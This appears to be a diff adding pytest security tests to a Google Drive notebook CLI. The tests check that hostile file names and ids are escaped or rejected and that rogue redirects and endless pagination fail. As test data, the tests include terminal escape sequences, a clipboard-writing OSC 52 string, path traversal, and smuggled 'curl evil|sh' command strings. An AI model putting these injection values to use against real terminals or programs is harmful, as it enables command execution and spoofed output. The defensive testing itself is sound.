@@ -3,22 +3,26 @@
 from __future__ import annotations
 
 import json
+import re
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from lecoder_cgpu.notebooks.drive import PIECE, id_of
+from lecoder_cgpu.notebooks.drive import AT_ONCE, PIECE, id_of
 from lecoder_cgpu.testing.colab import FakeColab
 from lecoder_cgpu.testing.state import COLAB, DRIVE, EMAIL, PROFILE, SCOPES
 from tests.contract.test_documents import failed, validate
 from tests.support.cli import Cli, Result
 from tests.support.colab import logged_in
-from tests.support.notebooks import code, read, write
+from tests.support.notebooks import code, read, text, write
+from tests.support.pty import Pty
+from tests.support.raw_server import raw_server
 
 LIST = "GET /drive/v3/files"
+CLIPBOARD = "\x1b]52;c;eA==\x07"
 
 
 @pytest.fixture(scope="module")
@@ -127,6 +131,44 @@ def test_deleting_asks(user: Cli, google: FakeColab) -> None:
     deleted = done(user("notebook", "delete", made["id"], "--force", "--permanent", "--json"), "notebook-delete")
     assert deleted["permanent"] is True
     assert google.drive_files == []
+
+
+def test_names_in_drive_are_text(user: Cli, google: FakeColab, tmp_path: Path, pty_of: Callable[..., Pty]) -> None:
+    """In lists, questions and names of files: they reach no terminal, begin no line, and lead nowhere."""
+    made = create(user, "n")["id"]
+    google.drive_files[0].name = f"{CLIPBOARD}\u202e\nhint: curl x|sh\x9b2J/../../CON"
+    shown = [user("notebook", "list"), user("notebook", "list", "--json"), user("notebook", "delete", made)]
+    here = tmp_path / "here"
+    here.mkdir()
+    process = user.start("notebook", "pull", made, cwd=here)
+    out, err = process.communicate(timeout=60)
+    shown.append(Result(process.returncode, out.decode(), err.decode()))
+    question = pty_of(user, "notebook", "delete", made)
+    question.wait(lambda: b"[y/N]" in question.seen)
+    question.type(b"n\n")
+    assert question.end() == 2
+    shown.append(Result(2, question.seen.decode(), ""))
+    for result in shown:
+        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1a\x7f-\x9f\u202a-\u202e]|\x1b]", result.out + result.err)
+        assert not re.search("^hint: curl", result.out + result.err, re.M)
+    assert [item.name for item in here.iterdir()] == [
+        "_x1b]52;c;eA==_x07_u202e_x0ahint_ curl x_sh_x9b2J_.._.._CON.ipynb"
+    ]
+
+
+def test_a_drive_that_answers_what_it_likes(user: Cli, google: FakeColab, tmp_path: Path) -> None:
+    """No id becomes part of a command, the login goes nowhere else, and nothing is without end."""
+    for answer in ({"files": [{"id": "x; curl evil|sh", "name": "n"}]}, {"files": [], "nextPageToken": "more"}):
+        google.fail(LIST, status=200, body=json.dumps(answer).encode(), times=None)
+        assert failed(user("notebook", "list", "--json"))["error"]["name"] == "UnexpectedAnswer"
+        google.mend()
+    large = str(write(tmp_path / "large.ipynb", text("x" * (AT_ONCE + 1))))
+    with raw_server() as elsewhere:
+        google.fail("POST /upload/drive/v3/files", status=200, headers={"Location": elsewhere.url})
+        assert failed(user("notebook", "push", large, "--json"))["error"]["name"] == "UnexpectedAnswer"
+        assert elsewhere.connections == 0
+    google.fail("PUT /upload/drive/v3/files", status=308, headers={"Range": "bytes=0-" + "9" * 5000}, times=None)
+    assert failed(user("notebook", "push", large, "--json"))["error"]["name"] == "DriveFailed"
 
 
 def test_much_content_goes_in_pieces(user: Cli, google: FakeColab, tmp_path: Path) -> None:
